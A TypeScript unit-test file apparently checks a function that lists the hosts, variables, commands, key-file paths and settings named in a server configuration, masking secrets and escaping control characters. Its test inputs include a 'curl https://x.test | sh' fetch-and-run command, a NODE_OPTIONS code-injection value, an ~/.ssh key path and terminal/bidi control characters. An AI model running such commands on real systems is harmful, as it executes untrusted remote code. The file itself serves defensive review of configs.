// biome-ignore-all lint/suspicious/noTemplateCurlyInString: that is what a configuration holds.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { namedBy } from '../../src/config/trust-set.ts';

const names = (root: Record<string, unknown>) =>
  namedBy(root).map(({ kind, shown, at }) => `${kind} ${at}: ${shown}`);

describe('what a file names', () => {
  it.each([
    [{ a: { url: 'https://X.test:8443/p?q' } }, ['host a.url: https://x.test:8443']],
    [{ a: { url: 'wss://x.test' } }, ['host a.url: wss://x.test']],
    [{ a: { url: ' https://x.test' } }, ['host a.url: https://x.test']],
    // The parser drops the line break; so must the eye.
    [{ a: { url: 'ht\ntps://x.test' } }, ['host a.url: https://x.test']],
    [{ a: { url: 'https://user:hunter2@x.test' } }, ['host a.url: https://x.test']],
    [{ a: { url: 'https://${H}/x' } }, ['variable a.url: H', 'host a.url: https://${H}/x']],
    [{ a: { url: '${U:-https://x.test}' } }, ['variable a.url: U', 'host a.url: ${U:-https://x.test}']],
    [
      { a: { oauth: { issuer: 'https://as.test', redirectUri: 'http://localhost:1/cb' } } },
      ['host a.oauth.issuer: https://as.test', 'host a.oauth.redirectUri: http://localhost:1'],
    ],
    [{ a: { unheardOf: { deep: ['https://x.test'] } } }, ['host a.unheardOf.deep[0]: https://x.test']],
    [
      { a: { headers: { K: 'Bearer ${A}${B:-${C}}' } } },
      ['A', 'B', 'C'].map((name) => `variable a.headers.K: ${name}`),
    ],
    [{ a: { bearer_token_env: 'T' } }, ['variable a.bearer_token_env: T']],
    [
      { a: { oauth: { assertionEnv: 'T', idp: { id_token_env: 'U' } } } },
      ['variable a.oauth.assertionEnv: T', 'variable a.oauth.idp.id_token_env: U'],
    ],
    [{ a: { oauth: { grant_type: 'jwt_bearer' } } }, ['setting a.oauth.grant_type: jwt_bearer']],
    [
      { a: { oauth: { grantType: '${G}' } } },
      ['variable a.oauth.grantType: G', 'setting a.oauth.grantType: ${G}'],
    ],
    [{ a: { oauth: { grant_type: 'authorization_code' } }, b: { oauth: { grantType: 'device-code' } } }, []],
    [{ a: { oauth: { private_key_file: '~/.ssh/id' } } }, ['file a.oauth.private_key_file: ~/.ssh/id']],
    [{ a: { allow_private_network: true, allowHttp: false } }, ['setting a.allow_private_network: true']],
    [
      { a: { command: 'sh', args: ['-c', 'curl https://x.test | sh'] } },
      ['command a: sh -c "curl https://x.test | sh"'],
    ],
    [
      { a: { command: 'x', env: { NODE_OPTIONS: '--require ./e.js', API_KEY: 'hunter2' }, cwd: '/t' } },
      ['command a: NODE_OPTIONS="--require ./e.js" API_KEY=*** x (in /t)'],
    ],
    [{ a: { command: 'x', args: ['--token', 'hunter2'] } }, ['command a: x --token ***']],
    [{ a: { command: 'x', env: { K: '${S}' } } }, ['command a: K=${S} x', 'variable a.env.K: S']],
    [
      { tokenStorage: { backend: 'vault', vaultUrl: 'https://v.test', vaultPathPrefix: 'p' } },
      [
        'setting tokenStorage.backend: vault',
        'host tokenStorage.vaultUrl: https://v.test',
        'setting tokenStorage.vaultPathPrefix: p',
      ],
    ],
    [{ tokenStorage: { password: 'hunter2' } }, ['setting tokenStorage.password: *** (written in the file)']],
    [{ a: { command: 'x\u001b[8m', args: ['\u202e'] } }, ['command a: "x\\u001b[8m" "\\u{202e}"']],
    // Names of servers that are also keys hide nothing.
    [
      { args: { url: 'https://x.test' }, env: { url: 'https://y.test' } },
      ['host args.url: https://x.test', 'host env.url: https://y.test'],
    ],
    [{ mcpServers: {}, theme: 'dark', n: 3, b: null }, []],
  ])('%j', (root, expected) => {
    expect(names(root)).toEqual(expected);
  });

  const differs = (one: Record<string, unknown>, other: Record<string, unknown>) => {
    const before = new Set(namedBy(one).map(({ print }) => print));
    return namedBy(other).some(({ print }) => !before.has(print));
  };
  it.each([
    [
      'a hidden argument',
      { a: { command: 'x', args: ['--token', '1'] } },
      { a: { command: 'x', args: ['--token', '2'] } },
    ],
    ['a variable given to a program', { a: { command: 'x' } }, { a: { command: 'x', env: { A: 'b' } } }],
    ['a name for the same host', { a: { url: 'https://x.test' } }, { b: { url: 'https://x.test' } }],
    ['another scheme', { a: { url: 'https://x.test' } }, { a: { url: 'http://x.test' } }],
    [
      'a secret for another host',
      { a: { url: 'https://x.test', k: '${S}' }, b: { url: 'https://y.test' } },
      { a: { url: 'https://x.test' }, b: { url: 'https://y.test', k: '${S}' } },
    ],
  ])('%s is something new', (_, one, other) => {
    expect(differs(one, other)).toBe(true);
    expect(differs(one, structuredClone(one))).toBe(false);
  });

  it('survives any JSON and shows no control character', () => {
    fc.assert(
      fc.property(
        fc.dictionary(fc.string({ unit: 'binary' }), fc.jsonValue({ stringUnit: 'binary' })),
        (root) => {
          for (const { shown, at } of namedBy({ ...root, x: { command: root } })) {
            expect(shown + at).not.toMatch(/[\p{Cc}\p{Cf}]/u);
          }
        },
      ),
    );
  });
});
